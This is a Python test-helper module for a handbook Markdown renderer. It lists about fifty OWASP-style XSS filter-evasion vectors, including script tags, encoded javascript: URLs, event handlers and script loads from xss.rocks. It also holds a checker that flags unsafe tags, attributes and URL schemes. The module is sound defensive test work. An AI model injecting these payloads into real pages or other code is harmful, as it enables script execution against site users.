"""Checks on rendered handbook HTML shared by the rendering, anchor and diff tests, and the
attack vectors they feed in."""

import html
import re
from html.parser import HTMLParser
from urllib.parse import unquote

from handbook.markdown import ALLOWED_TAGS

# Tags the handbook's own wrappers and the diff add around the allow-list.
WRAPPER_TAGS = {"section", "ins", "del"}
KNOWN_ATTRIBUTES = {"href", "rel", "start", "class", "id", "data-anchor", "data-previous-anchor"}
VOID = {"br", "hr"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")

# The OWASP XSS filter evasion classics, and their Markdown relatives.
XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<img src=x onerror=alert(1)>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<BODY ONLOAD=alert('XSS')>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)" onclick="alert(1)">x</a>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](jav%09ascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](x.png)<img src=x onerror=alert(1)>",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
]


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.stack: list[str] = []

    def handle_starttag(self, tag, attrs):
        raw = self.get_starttag_text() or ""
        if tag not in ALLOWED_TAGS | WRAPPER_TAGS:
            self.problems.append(f"tag {tag}: {raw}")
        for name, value in attrs:
            if name.startswith("on") or name not in KNOWN_ATTRIBUTES:
                self.problems.append(f"attribute {name}: {raw}")
            seen = _normalised(value or "")
            if any(scheme in seen for scheme in BAD_SCHEMES):
                self.problems.append(f"url {value!r}: {raw}")
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag not in VOID:
            self.stack.pop()

    def handle_endtag(self, tag):
        if tag in VOID:
            return
        if not self.stack or self.stack[-1] != tag:
            self.problems.append(f"unbalanced </{tag}> with open {self.stack}")
            return
        self.stack.pop()

    def handle_comment(self, data):
        self.problems.append(f"comment {data!r}")


def _normalised(value: str) -> str:
    """The value as a browser would look at its scheme: entities and %-escapes decoded (twice,
    for double encoding), whitespace and control characters gone, lower case."""
    for _ in range(2):
        value = unquote(html.unescape(value))
    return "".join(ch for ch in value if ch > " " and ch != "\x7f").lower()


def problems(rendered: str) -> list[str]:
    """What is unsafe or malformed in `rendered`: a `<script`, a tag or attribute outside the
    allow-list, an event handler, a javascript:/vbscript:/data: URL, an unbalanced tag."""
    found = []
    if "<script" in rendered.lower():
        found.append("<script")
    if re.search(r"<[a-z][^<>]*?[\s/\"']on[a-z]+\s*=", rendered, re.IGNORECASE):
        found.append("event handler in a tag")
    inspector = _Inspector()
    inspector.feed(rendered)
    inspector.close()
    found.extend(inspector.problems)
    if inspector.stack:
        found.append(f"unclosed {inspector.stack}")
    return found
